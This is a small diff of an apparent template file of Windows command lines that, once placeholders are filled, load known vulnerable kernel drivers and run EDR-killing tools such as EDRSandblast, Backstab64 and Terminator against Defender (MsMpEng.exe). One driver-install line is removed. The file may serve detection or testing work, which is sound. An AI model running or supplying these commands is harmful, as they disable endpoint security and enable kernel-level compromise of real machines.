@@ -151,7 +151,6 @@ sc start «RTCore64|gdrv|zam64|mhyprot2|truesight|iqvw64e» & ~f~.exe
 ~d~kdmapper.exe ~f~.sys
 ~d~«PPLKiller|PPLcontrol|Backstab64|EDRSandblast|CheekyBlinder|dsefix|gdrv-loader».exe «/disablePPL|unprotect @pid@|--kernelmode|-n MsMpEng.exe -k|»
 ~d~EDRSandBlast.exe audit --kernelmode --vuln-driver ~d~RTCore64.sys
-pnputil /add-driver ~f~.inf /install & ~f~.exe
 reg add HKLM\SYSTEM\CurrentControlSet\Services\~n~ /v ImagePath /t REG_EXPAND_SZ /d "\??\~f~.sys" /f
 ~d~«TrueSightKiller|Terminator|ZemanaKill|NimBlackout|SharpTerminator».exe «-p @pid@|-n MsMpEng.exe|»
 copy ~d~«gdrv|procexp152|RTCore64».sys C:\Windows\System32\drivers\ & sc create ~n~ type= kernel binPath= C:\Windows\System32\drivers\~n~.sys
